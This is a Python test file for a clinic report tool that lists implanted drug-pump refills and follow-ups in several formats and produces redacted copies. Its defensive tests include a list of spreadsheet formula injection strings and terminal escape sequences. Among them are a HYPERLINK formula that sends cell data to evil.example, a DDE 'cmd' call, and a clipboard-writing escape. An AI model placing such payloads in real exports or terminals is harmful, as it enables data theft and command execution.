"""The due list as text, CSV, JSON and HTML, and the redacted copy in each format."""

from __future__ import annotations

import csv
import io
import json
import re
from html.parser import HTMLParser

import pytest

from devicelog.clinic.catalogue import shipped_catalogue
from devicelog.reports import due as report
from devicelog.reports.due_html import render_html
from devicelog.reports.redact import initials, redact_due_list, short_mrn
from tests.test_due_clinic import clinic, load  # noqa: F401  (fixture)

NAMES = ["Ann Lee", "Bob Stone", "Cara Diaz", "Dan Roe", "Eve Park"]
MRNS = ["MRN0001", "MRN0002", "MRN0003", "MRN0004", "MRN0005"]
DRUG_WORDS = ["morphine", "hydromorphone", "infumorph", "ziconotide", "prialt"]


@pytest.fixture
def dl(clinic):  # noqa: F811
    return load(clinic, within_days=90)


def test_json_document_has_the_documented_fields_and_the_why(dl):
    doc = report.document(dl)
    assert doc["format"] == "devicelog.due-list/1"
    assert (doc["as_of"], doc["until"], doc["within_days"]) == ("2026-11-23", "2027-02-21", 90)
    assert doc["count"] == len(doc["items"]) == 11
    first = doc["items"][0]
    assert list(first) == list(report.FIELDS)
    assert first["status"] == "due" and first["due_on"] == "2026-11-23" and first["days_until_due"] == 0
    refill = next(i for i in doc["items"] if i["device_serial"] == "NGP100" and i["code"] == "refill")
    assert refill["latest_safe_on"] == "2027-01-30"
    assert "2 mg/day ÷ 10 mg/mL morphine = 0.200 mL/day" in refill["why"]
    follow = next(i for i in doc["items"] if i["code"] == "follow_up")
    assert follow["latest_safe_on"] is None
    assert doc["suppressed_count"] == 1
    assert doc["suppressed_by_reason"] == [{"reason": "elective item suppressed (hospice)", "count": 1}]
    assert doc["suppressed"][0]["code"] == "planned_replacement"
    assert doc["suppressed"][0]["status"] == "suppressed"
    json.dumps(doc)  # serialisable as it is


def test_csv_is_the_json_items_one_per_row_with_bom_and_iso_dates(dl):
    data = report.csv_bytes(dl)
    assert data.startswith(b"\xef\xbb\xbf")
    assert b"\r\n" in data
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    items = report.document(dl)["items"]
    assert len(rows) == len(items)
    for row, item in zip(rows, items):
        assert row == {k: "" if v is None else str(v) for k, v in item.items()}
        assert re.fullmatch(r"\d{4}-\d{2}-\d{2}", row["due_on"])
    assert "→" in rows[0]["why"]  # UTF-8 survives


class _Rows(HTMLParser):
    def __init__(self):
        super().__init__()
        self.rows, self.cells, self._cell, self.external = [], [], None, []

    def handle_starttag(self, tag, attrs):
        a = dict(attrs)
        if tag == "tr" and "data-item-key" in a:
            self.rows.append(a)
            self.cells.append({})
        if tag == "td" and self.rows:
            self._cell = a.get("class")
            self.cells[-1][self._cell] = ""
        for key in ("src", "href"):
            if key in a:
                self.external.append(a[key])
        if tag == "link" or tag == "script":
            self.external.append(tag)

    def handle_endtag(self, tag):
        if tag == "td":
            self._cell = None

    def handle_data(self, data):
        if self._cell and self.cells:
            self.cells[-1][self._cell] += data


def test_html_rows_match_the_json_and_the_page_is_self_contained(dl):
    page = render_html(dl, page_size="Letter")
    parser = _Rows()
    parser.feed(page)
    items = report.document(dl)["items"]
    assert [(r["data-item-key"], r["data-status"], r["data-due-on"]) for r in parser.rows] == [
        (i["item_key"], i["status"], i["due_on"]) for i in items
    ]
    for cells, item in zip(parser.cells, items):
        assert cells["what"] == item["what"]
        assert cells["why"] == item["why"]
        assert cells["who"] == item["patient_name"] + item["patient_mrn"]
        assert cells["safe"] == (item["latest_safe_on"] or "—")
    assert parser.external == []
    assert "@media print" in page and "size: letter portrait" in page
    assert "1 item suppressed by goals of care (rule 24)" in page


def test_html_escapes_text(dl):
    from dataclasses import replace

    from devicelog.store.due import DueEntry

    e = dl.entries[0]
    evil = replace(dl, entries=(DueEntry(replace(e.item, patient_name="<script>x</script>"), e.status),))
    page = render_html(evil)
    assert "<script>" not in page and "&lt;script&gt;" in page


def test_text_fits_80_columns_has_no_colour_codes_and_names_every_item(dl):
    out = report.text(dl, width=80)
    assert "\x1b[" not in out
    assert max(len(line) for line in out.splitlines()) <= 80
    # items appear in list order: each item's first line holds its due date and patient
    firsts = re.findall(r"^ (\d{4}-\d{2}-\d{2}) +(" + "|".join(NAMES) + ") ", out, flags=re.M)
    assert firsts == [(i.due_on.isoformat(), i.patient_name) for i in dl.items]
    for i in dl.items:
        assert i.patient_mrn in out
    assert "1 item suppressed by goals of care (rule 24), not listed" in out
    assert "11 items listed, 0 overdue." in out


def test_text_wraps_to_a_wider_terminal(dl):
    wide = report.text(dl, width=120)
    assert max(len(line) for line in wide.splitlines()) <= 120
    assert max(len(line) for line in wide.splitlines()) > 80


def test_empty_list_says_nothing_due(clinic):  # noqa: F811
    from devicelog.store.due import parse_kind

    dl = load(clinic, within_days=14, kinds=[parse_kind("drg")])
    msg = "Nothing overdue, and nothing due between 2026-11-23 and 2026-12-07."
    assert msg in report.text(dl)
    assert msg in render_html(dl)
    assert report.document(dl)["items"] == []


def test_initials_and_short_mrn():
    assert initials("Ann Marie Lee") == "A.M.L."
    assert initials("jean-luc o'neil") == "J.L.O."
    assert short_mrn("MRN0001234") == "…1234"


def test_redaction_scrubs_names_mrns_and_drug_names_in_every_format(dl):
    red = redact_due_list(dl, shipped_catalogue().drugs)
    assert red.redacted and len(red.entries) == len(dl.entries)
    outputs = {
        "text": report.text(red),
        "csv": report.csv_bytes(red).decode("utf-8-sig"),
        "json": json.dumps(report.document(red), ensure_ascii=False),
        "html": render_html(red),
    }
    for fmt, out in outputs.items():
        low = out.lower()
        for name in NAMES:
            assert name.lower() not in low, (fmt, name)
            assert name.split()[1].lower() not in low, (fmt, name)
        for mrn in MRNS:
            assert mrn.lower() not in low, (fmt, mrn)
        for word in DRUG_WORDS:
            assert not re.search(rf"\b{word}\b", low), (fmt, word)
        assert "…0001" in out and "A.L." in out, fmt
        assert "[drug]" in out, fmt
    refill = next(i for i in red.items if i.device_serial == "…P100" and i.code == "refill")
    assert "2 mg/day ÷ 10 mg/mL [drug] = 0.200 mL/day" in refill.why
    assert json.loads(outputs["json"])["redacted"] is True


def test_json_reads_back_awkward_text_exactly(dl):
    """orjson writes each record: quotes, backslashes, control characters and non-Latin
    letters read back as they were, the fields in the documented order, an item a line."""
    from dataclasses import replace

    from devicelog.store.due import DueEntry

    awkward = 'Zoë "Ziggy" O\'Brien \\ 王\n\t\x01\x1b[2J — µg'
    entries = [
        DueEntry(replace(e.item, patient_name=awkward, why=e.item.why + " " + awkward), e.status) for e in dl.entries
    ]
    odd = replace(dl, entries=tuple(entries))
    out = io.StringIO()
    report.render_json(odd, out)
    text = out.getvalue()
    assert "\x1b" not in text and "\\u001b[2J" in text  # JSON escapes ESC
    doc = json.loads(text)
    assert [i["patient_name"] for i in doc["items"]] == [awkward] * len(entries)
    assert all(list(item) == list(report.FIELDS) for item in doc["items"])
    assert doc["items"][0]["why"].endswith(" " + awkward)
    assert doc == report.document(odd)
    item_lines = [line for line in text.splitlines() if line.startswith('    {"status":')]
    assert len(item_lines) == len(entries) + len(odd.suppressed)


def _awkward(dl):
    from dataclasses import replace

    from devicelog.store.due import DueEntry

    odd = []
    for n, e in enumerate(dl.entries):
        i = e.item
        if n % 3 == 0:
            i = replace(i, patient_name="Zoë 王小明 Ångström-Lindqvist", why=i.why + " " + "x" * 70 + " tab\there\x07 end")
        if n % 3 == 1:
            i = replace(i, device_model="A" * 45, what=i.what + "  two  spaces ", latest_safe_on=None)
        odd.append(DueEntry(i, e.status))
    return replace(dl, entries=tuple(odd))


@pytest.mark.parametrize("width", [40, 80, 120])
def test_text_table_drawn_in_chunks_reads_as_one_table(dl, monkeypatch, width):
    """Chunks of 2 rows line up as the table of all rows drawn at once, with wide
    letters, words wider than a column, extra spaces and control characters."""
    for case in (dl, _awkward(dl)):
        whole, coloured_whole = report.text(case, width=width), io.StringIO()
        report.render_text(case, coloured_whole, width=width, color=True)
        monkeypatch.setattr(report, "TEXT_ROWS_PER_CHUNK", 2)
        coloured = io.StringIO()
        report.render_text(case, coloured, width=width, color=True)
        assert report.text(case, width=width) == whole
        assert coloured.getvalue() == coloured_whole.getvalue()
        monkeypatch.undo()
        assert all(len(line) <= width for line in whole.splitlines())
        assert all(e.item.device_serial[:4] in whole for e in case.entries)


def test_streamed_writers_write_every_row_once(dl, monkeypatch):
    """write_csv / write_html, chunk by chunk (here 2 rows a chunk): every item once, in
    order, one BOM; the HTML page is the one render_html returns."""
    from devicelog.reports.due_html import write_html

    for case in (dl, _awkward(dl)):
        whole = report.csv_bytes(case)
        monkeypatch.setattr(report, "ROWS_PER_CHUNK", 2)
        out = io.BytesIO()
        report.write_csv(case, out)
        monkeypatch.undo()
        assert out.getvalue() == whole
        rows = list(csv.DictReader(io.StringIO(out.getvalue().decode("utf-8-sig"), newline="")))
        assert [r["item_key"] for r in rows] == [i.key for i in case.items]
        assert out.getvalue().count(b"\xef\xbb\xbf") == 1
        page = io.StringIO()
        write_html(case, page, rows_per_chunk=2)
        assert page.getvalue() == render_html(case)
        assert page.getvalue().count("data-item-key=") == len(case.entries)
        assert page.getvalue().endswith("</footer></body></html>\n")


#: Texts a hostile import could carry (issue 19 §2).
HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "@SUM(1+1)",
    "-2+3",
    "\tTab Start",
    "\rCR Start",
    "Eve\x1b[2J\x1b[H Park",
    "\x1b]0;pwned\x07Ann",
    "\x1b]52;c;ZXZpbA==\x07Bob",
]


def _hostile(dl):
    """Item n: name, model and why HOSTILE[n % 10]; serial and what HOSTILE[(n + 3) % 10]."""
    from dataclasses import replace

    from devicelog.store.due import DueEntry

    out = []
    for n, e in enumerate(dl.entries):
        v, w = HOSTILE[n % len(HOSTILE)], HOSTILE[(n + 3) % len(HOSTILE)]
        out.append(DueEntry(replace(e.item, patient_name=v, patient_mrn=w, device_serial=w, device_model=v, what=w, why=v), e.status))
    return replace(dl, entries=tuple(out))


def test_csv_cells_never_start_a_formula_and_show_control_characters(dl):
    bad = _hostile(dl)
    rows = list(csv.reader(io.StringIO(report.csv_bytes(bad).decode("utf-8-sig"), newline="")))
    header, body = rows[0], rows[1:]
    assert len(body) == len(bad.entries) == 11
    for row in body:
        for name, cell in zip(header, row):
            if name == "days_until_due":
                int(cell)  # a number ("-3" is a number, not a formula)
                continue
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (name, cell)
            assert not any(ord(c) < 32 for c in cell), (name, cell)
    cells = [dict(zip(header, row)) for row in body]
    # Worked by hand: an apostrophe before =, +, -, @; a tab or CR shown as ␉ / ␍ (then
    # nothing starts a formula); ESC shown as ␛ and BEL as ␇.
    assert cells[0]["patient_name"] == "'" + HOSTILE[0] and cells[0]["device_serial"] == "'@SUM(1+1)"
    assert cells[1]["patient_name"] == "'=cmd|' /C calc'!A0" and cells[1]["what"] == "'-2+3"
    assert cells[2]["device_model"] == "'+1+1" and cells[2]["patient_mrn"] == "\u2409Tab Start"
    assert cells[3]["why"] == "'@SUM(1+1)" and cells[3]["what"] == "\u240dCR Start"
    assert cells[4]["what"] == "Eve\u241b[2J\u241b[H Park"
    assert cells[6]["patient_name"] == "\u240dCR Start" and cells[6]["device_serial"] == "\u241b]52;c;ZXZpbA==\u2407Bob"
    assert cells[7]["patient_name"] == "Eve\u241b[2J\u241b[H Park" and cells[7]["what"] == "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")"


@pytest.mark.parametrize("color", [False, True])
def test_text_table_shows_escape_sequences_instead_of_running_them(dl, color):
    bad = _hostile(dl)
    out = io.StringIO()
    report.render_text(bad, out, width=120, color=color)
    shown = out.getvalue()
    if not color:
        assert "\x1b" not in shown
    # With colour, rich writes its own SGR codes (ESC [ … m) and nothing else.
    assert re.sub(r"\x1b\[[0-9;]*m", "", shown).count("\x1b") == 0
    assert "\x07" not in shown and "\r" not in shown
    plain = re.sub(r"\x1b\[[0-9;]*m", "", shown)
    assert "␛]52;c;ZXZpbA==␇Bob" in plain and "Eve␛[2J␛[H Park" in plain


def test_a_redacted_copy_keeps_4_characters_of_a_serial_and_no_date_of_death(dl):
    """Issue 15, section 5: a serial is a HIPAA identifier, and so is a date of death."""
    from dataclasses import replace

    from devicelog.clinic.due import SuppressedItem

    item = dl.entries[0].item
    serial = item.device_serial
    suppressed = SuppressedItem(replace(item, why=f"{item.why}; {serial} to be explanted"), "patient deceased on 2026-10-01")
    odd = replace(dl, suppressed=(suppressed,))
    red = redact_due_list(odd, shipped_catalogue().drugs)
    out = report.text(red) + json.dumps(report.document(red), ensure_ascii=False) + render_html(red)
    assert serial not in out
    assert "deceased on" not in out
    assert red.entries[0].item.device_serial == "…" + serial[-4:]
    assert red.suppressed[0].reason == "patient deceased"
    assert red.suppressed[0].item.why.endswith(f"; …{serial[-4:]} to be explanted")
